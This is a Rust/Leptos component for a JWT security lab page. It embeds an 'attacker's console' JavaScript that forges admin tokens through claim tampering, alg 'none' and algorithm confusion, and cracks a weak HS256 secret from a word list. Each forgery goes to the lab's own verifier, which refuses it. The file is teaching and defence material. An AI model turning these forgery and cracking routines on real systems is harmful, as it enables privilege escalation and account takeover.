//! The forge lab: a fenced "attacker's console" builds forged tokens from the page's own JWT —
//! tampered claims, `alg: none`, algorithm confusion, and a token under a weak secret that it
//! cracks from a word list — and sends each to the real verifier, which says why it refuses.
//! The attacker's code is JavaScript on purpose: it is what an attacker would run, shown whole.

use leptos::prelude::*;

use super::fenced::{Fenced, Script};

const SCRIPT: &str = r#"const say = (line) => {
  const out = document.getElementById("forge-out");
  if (out) out.textContent += line + "\n";
};
document.getElementById("forge-out").textContent = "";
const text = new TextEncoder();
const b64 = (bytes) => btoa(String.fromCharCode(...new Uint8Array(bytes)))
  .replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
const part = (object) => b64(text.encode(JSON.stringify(object)));
const read = (segment) => JSON.parse(atob(segment.replace(/-/g, "+").replace(/_/g, "/")));
const hmac = async (secret, data) => {
  const key = await crypto.subtle.importKey("raw", text.encode(secret),
    { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return b64(await crypto.subtle.sign("HMAC", key, text.encode(data)));
};
const send = async (label, token) => {
  const answer = await fetch("/api/jwt/me", { headers: { Authorization: "Bearer " + token } });
  const body = await answer.json().catch(() => ({}));
  say(label + " → " + answer.status + (answer.ok ? " ACCEPTED" : " refused: " + (body.error || "")));
};
(async () => {
  const stored = localStorage.getItem("authlab.jwt") || sessionStorage.getItem("authlab.jwt");
  if (!stored) {
    say("No token to start from: log in on the JWT side (kept in localStorage or sessionStorage).");
    return;
  }
  const [h, p, s] = JSON.parse(stored).access_token.split(".");
  const header = read(h), claims = read(p);
  const admin = { ...claims, role: "admin" };
  say("Starting from a real token: alg " + header.alg + ", kid " + header.kid + ", role " + claims.role);
  await send("1. Tamper: role → admin, signature kept", h + "." + part(admin) + "." + s);
  await send("2. alg: none, no signature", part({ ...header, alg: "none" }) + "." + part(admin) + ".");
  const jwks = await (await fetch("/.well-known/jwks.json")).json();
  const key = (jwks.keys || [])[0];
  if (key) {
    const forged = part({ ...header, alg: "HS256" }) + "." + part(admin);
    await send("3. Algorithm confusion: HS256 signed with the published " + key.kty + " key as the secret",
      forged + "." + await hmac(JSON.stringify(key), forged));
  } else {
    await send("3. Algorithm confusion: no key is published (HS256 keeps it secret), so claim RS256",
      part({ ...header, alg: "RS256" }) + "." + part(admin) + "." + s);
  }
  const lab = await (await fetch("/api/lab/weak-token", { method: "POST" })).json();
  const [wh, wp, ws] = lab.token.split(".");
  const started = performance.now();
  let tried = 0, found = null;
  for (const word of lab.words) {
    tried += 1;
    if (await hmac(word, wh + "." + wp) === ws) { found = word; break; }
  }
  const ms = Math.round(performance.now() - started);
  if (found === null) { say("4. Weak secret: not in the word list (" + tried + " words, " + ms + " ms)"); return; }
  say("4. Weak secret: a lab token's HS256 key cracked in " + ms + " ms: \"" + found + "\" (word " + tried + " of " + lab.words.length + ")");
  const forged = part({ ...header, alg: "HS256" }) + "." + part(admin);
  await send("   An admin token signed with \"" + found + "\"", forged + "." + await hmac(found, forged));
  say("   authlab's own key is 32 random bytes, so it refuses; a server keyed \"" + found + "\" would have said 200.");
})();"#;

const INTRO: &str = "Can the browser's copy of a token be edited into a better one? The attacker \
    has the token, the page's JavaScript and the published keys. Log in on the JWT side, then run \
    the console: each forgery goes to the real verifier, and the trace shows the check that refused it.";

#[component]
pub fn ForgeLab() -> impl IntoView {
    let script = Script {
        id: "forge",
        label: "Attacker's console",
        summary: "The attacker's code",
        button: "Forge and send",
        code: crate::prose!(SCRIPT),
    };
    view! {
        <div class="lab-body" data-testid="forge-lab">
            <p inner_html=crate::prose!(INTRO)></p>
            <Fenced script />
        </div>
    }
}
